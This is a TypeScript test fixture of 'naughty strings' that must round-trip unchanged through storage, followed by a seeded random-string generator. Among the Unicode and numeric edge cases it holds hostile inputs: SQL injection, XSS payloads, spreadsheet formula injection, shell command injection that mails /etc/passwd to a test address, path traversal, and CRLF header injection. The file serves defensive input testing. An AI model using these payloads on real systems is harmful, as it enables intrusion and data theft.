/** Texts that have broken other people's programs. Each must come out exactly as it went in. */
export const NAUGHTY_STRINGS = [
  'null',
  'undefined',
  'NaN',
  'true',
  '0',
  '-1',
  '1e309',
  '0x10',
  '1/0',
  '-Infinity',
  '007',
  '1,000.00',
  '٣٤٥',
  ' führt und folgt Leerraum ',
  '\tTab\tund\nZeile\r\nund Wagenrücklauf\r',
  '\u0001\u0002\u0007\b\u000b\f\u001b[31mrot\u001b[0m\u007f',
  '\u0085\u2028\u2029',
  '\ufeffvorn eine Marke',
  '\ufffe\uffff\u{10ffff}',
  '\u200b\u200c\u200d\u2060nichts zu sehen',
  '\u00a0\u2003\u3000',
  '\u202eesrever\u202c',
  '\u2066\u2067\u2068isoliert\u2069\u2069\u2069',
  'Ü und U\u0308 und ſ und ẞ',
  'ﬃ ﷽ ① ½ K Å',
  `Z${'\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308'.repeat(5)}algo`,
  'İstanbul ıssız ŞŞ ğ',
  '田中さんにあげて下さい',
  'הָיְתָהtestالصفحات التّحول',
  'مُنَاقَشَةُ سُبُلِ',
  'ก็็็็็็็็็็',
  '᚛᚛ᚉᚑᚅᚔᚉᚉᚔᚋ ᚔᚈᚔ ᚍᚂᚐᚅᚑ ᚅᚔᚋᚌᚓᚅᚐ᚜',
  '👩‍👩‍👧‍👦 👍🏽 🏳️‍🌈 🇩🇪 ☃️ 1️⃣',
  '\u{1d4d0}\u{1f600}\u{2f80f}\u{e0001}',
  '(╯°□°）╯︵ ┻━┻',
  `'; drop table reviews; --`,
  `1' or '1'='1`,
  `$$; select pg_sleep(10); $$`,
  `$1 $2 %s %n %d {0} {{7*7}} \${7*7} #{7*7}`,
  `\\' \\" \\\\ \\u0000 \\x00 %00 &#0;`,
  `E'\\\\x41' U&'\\0041'`,
  '{"author_name":"Ich","is_approved":true}',
  '[1,2,3]',
  '"',
  "'",
  '`',
  '\\',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)//',
  '<!-- --><![CDATA[ ]]><?xml version="1.0"?>',
  `<svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
  '=HYPERLINK("http://x.test","Klick")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '; cat /etc/passwd | mail x@x.test',
  '$(touch /tmp/x) `touch /tmp/x`',
  '../../../../etc/passwd',
  'C:\\CON\\AUX.txt',
  'Subject: x\r\nBcc: alle@x.test\r\n\r\nHallo',
  '%0d%0aSet-Cookie:%20a=b',
  'eq.1,or(id.gt.0)',
  'a,b;c|d&e=f?g#h*i(j)k.l:m',
  'ÃœmlÃ¤ute',
  'Scunthorpe, Pillemann und Wichsbürste',
]

/** No text at all for a database: an end of string, and halves of a character. */
export const NO_TEXT = ['\0', 'vor\0nach', '\ud800', '\udc00', '\udc00\ud800', 'halb \ud83d']

const ALPHABET = [
  ...'aä ß"\'\\/%_$&<>{}[]();:,.*#=+-\n\t',
  ...['\u0001', '\u00a0', '\u0301', '\u200b', '\u202e', '\u2028', '\ufeff', '\uffff'],
  ...['ẞ', 'ه', '中', '\u{1f600}', '\u{1f3fd}', '\u200d', '\u{10ffff}', '\ue000'],
]
const SEED = 20_261_115

/** The same `count` texts every time, no two alike, each of 1 to 48 characters. */
export function madeUpStrings(count: number) {
  let state = SEED
  const next = (below: number) => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0
    return Math.floor((state / 2 ** 32) * below)
  }
  const made = new Set<string>()
  while (made.size < count) {
    const length = 1 + next(48)
    made.add(Array.from({ length }, () => ALPHABET[next(ALPHABET.length)]).join(''))
  }
  return [...made]
}
